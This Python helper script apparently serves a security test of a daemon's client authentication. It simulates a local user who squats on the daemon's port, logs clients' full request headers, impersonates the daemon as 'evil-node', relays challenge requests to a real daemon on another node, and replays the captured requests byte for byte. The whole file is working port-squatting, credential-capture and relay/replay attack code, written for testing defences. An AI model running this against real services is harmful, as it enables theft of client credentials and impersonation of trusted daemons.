"""A local user's program that collects what the daemon's clients send while
the daemon is down, and replays it once the daemon is back
(tests/hostile/test_port_squat.py). Run as uid 65534 with only the standard
library.

`collect PORT LOG RELAY_URL`: on the daemon's port, logs every request head as
it came (one JSON string a line) and answers as a forged daemon would; a
`/challenge` it relays to RELAY_URL, another node's live daemon sharing the
token, and hands back that daemon's real answer (signed/auth.py: the client
must tell that it is not the daemon it connected to).
`replay HEADS URL...`: sends each request head of the JSON list HEADS, byte for
byte, to every URL; prints [[url, index, status], ...] as JSON."""
import http.server
import json
import socket
import sys
import urllib.error
import urllib.request

NO_PROXY = urllib.request.build_opener(urllib.request.ProxyHandler({}))


def collect(port: int, log: str, relay: str) -> None:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            with open(log, "a") as f:
                head = "".join(f"{k}: {v}\r\n" for k, v in self.headers.items())
                f.write(json.dumps(f"{self.requestline}\r\n{head}\r\n") + "\n")
            code, body = 200, b'{"node": "evil-node", "tick": 1, "jobs": []}'
            if self.path.startswith("/challenge"):
                try:
                    with NO_PROXY.open(relay + self.path, timeout=5) as r:
                        code, body = r.status, r.read()
                except urllib.error.HTTPError as err:
                    code, body = err.code, err.read()
            self.send_response(code)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    print("listening", flush=True)
    server.serve_forever()


def replay(heads_file: str, urls: list) -> None:
    with open(heads_file) as f:
        heads = json.load(f)
    out = []
    for url in urls:
        host, port = url.split("//", 1)[1].rsplit(":", 1)
        for i, head in enumerate(heads):
            with socket.create_connection((host, int(port)), timeout=10) as s:
                s.sendall(head.encode("latin-1"))
                answer = b""
                while b"\r\n" not in answer:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    answer += chunk
            line = answer.split(b"\r\n", 1)[0].split()
            out.append([url, i, int(line[1]) if len(line) > 1 else 0])
    print(json.dumps(out))


if sys.argv[1] == "collect":
    collect(int(sys.argv[2]), sys.argv[3], sys.argv[4])
else:
    replay(sys.argv[2], sys.argv[3:])
